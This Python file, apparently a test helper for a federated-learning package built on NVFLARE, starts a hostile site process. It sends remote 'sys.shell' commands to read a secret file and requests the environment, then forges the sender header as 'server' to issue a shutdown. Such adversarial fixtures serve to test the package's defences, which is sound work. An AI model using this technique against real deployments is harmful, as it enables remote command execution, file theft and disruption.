"""FLARE's main process without this package's gate, which may attack a site from inside.

hostile.py server KIT, or hostile.py client KIT SITE. The environment may name the attacked site
(ATTACK_TARGET), a file to read there (ATTACK_FILE), and the file for the results (ATTACK_RESULTS).
"""

import json
import os
import sys
import threading
import time
from pathlib import Path


def attack(here, target, secret, results):
    """Send administrative requests under the own name, then a shutdown under the server's name."""
    from nvflare.fuel.f3.cellnet.core_cell import CoreCell
    from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
    from nvflare.private.admin_defs import Message
    from nvflare.private.defs import new_cell_message

    while here not in CoreCell.ALL_CELLS or not CoreCell.ALL_CELLS[here].running:
        time.sleep(0.1)
    cell = CoreCell.ALL_CELLS[here]

    def send(topic, body, timeout):
        request = new_cell_message({}, Message(topic, body))
        reply = cell.send_request(
            channel=CellChannel.CLIENT_MAIN,
            topic="admin",
            target=target,
            request=request,
            timeout=timeout,
        )
        body = getattr(reply.payload, "body", None)
        return f"{reply.get_header(MessageHeaderKey.RETURN_CODE)}: {body}"

    answers = {}
    for number in range(6):  # the site may still be starting
        answers[f"shell {number}"] = send("sys.shell", f"cat {secret}", 3)
        answers[f"environment {number}"] = send("sys.report_env", "", 3)
        answers[f"log {number}"] = send("sys.config_site_log", "reload", 3)
        time.sleep(2)
    if here != "server":
        cell.add_outgoing_request_filter(
            "*", "*", lambda message: message.set_header(MessageHeaderKey.ORIGIN, "server")
        )
        answers["shutdown"] = send("train.shutdown", "", 3)
    Path(f"{results}.part").write_text(json.dumps(answers))
    Path(f"{results}.part").rename(results)


if __name__ == "__main__":
    from fedmerge_peft.sites.flare.child import run_main_process
    from fedmerge_peft.sites.flare.local_sockets import use_local_sockets

    use_local_sockets()
    kind, *arguments = sys.argv[1:]
    if results := os.environ.get("ATTACK_RESULTS"):
        here = arguments[1] if kind == "client" else "server"
        options = (here, os.environ["ATTACK_TARGET"], os.environ["ATTACK_FILE"], results)
        threading.Thread(target=attack, args=options, daemon=True).start()
    run_main_process(kind, arguments)
